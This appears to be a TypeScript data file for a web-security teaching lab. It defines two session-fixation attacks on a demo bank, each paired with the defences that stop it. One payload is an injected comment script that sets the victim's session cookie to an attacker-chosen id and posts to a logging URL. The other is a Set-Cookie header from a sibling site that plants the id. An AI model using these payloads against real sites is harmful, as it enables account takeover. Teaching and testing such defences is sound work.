import { type AttackOf, notWritten } from './attack.ts';

/** Lab 3: a session id that the attacker chose. */
export const fixation = [
  {
    id: 'fixation-by-script',
    lab: 'fixation',
    title: 'An injected script plants an id',
    story:
      'Mallory’s client gets a session id from the bank and keeps it alive. The bank has signed it, but nobody is logged in with it yet. A comment on the public page plants it in Alice’s browser before she logs in.',
    goal: 'The bank treats the attacker’s client, which sends the planted id, as Alice.',
    ground: 'comment',
    aim: 'let-in',
    victim: 'logs-in-afterwards',
    ifUnseen: 'stopped',
    comesBackWith: 'what-it-planted',
    weakness: notWritten,
    exploit: `Nice bank!
<script>
  document.cookie = '{{cookie}}={{planted}}; Path=/; Max-Age=600{{secure}}';
  fetch('{{log}}', { method: 'POST', mode: 'no-cors', body: 'Planted.' });
</script>`,
    sign: { at: 'log' },
    defences: [
      'regenerate',
      'http-only',
      'prefix-http',
      'prefix-host-http',
      'output-encoding',
      'content-security-policy',
    ],
    probe: null,
  },
  {
    id: 'fixation-by-sibling',
    lab: 'fixation',
    title: 'The sibling plants an id',
    story: 'The shop’s server sets a cookie for the whole site with the id that Mallory’s client keeps alive.',
    goal: 'The bank treats the attacker’s client, which sends the planted id, as Alice.',
    ground: 'sibling-answer',
    aim: 'let-in',
    victim: 'logs-in-afterwards',
    ifUnseen: 'stopped',
    comesBackWith: 'what-it-planted',
    weakness: notWritten,
    exploit: `Set-Cookie: {{cookie}}={{planted}}; Domain={{host}}; Path=/; Max-Age=600; HttpOnly{{secure}}

<p>Welcome to the shop.</p>`,
    sign: { at: 'bank', method: 'POST', path: '/login' },
    defences: ['regenerate', 'http-only', 'same-site-strict', 'prefix-http', 'prefix-host', 'prefix-host-http'],
    probe: null,
  },
] as const satisfies readonly AttackOf<string>[];

/** Why planting by an address is not among the attacks. */
export const fixationByAddress = {
  title: 'Planting an id in the address (?sid=…)',
  reason: 'express-session takes ids only from the Cookie header.',
};
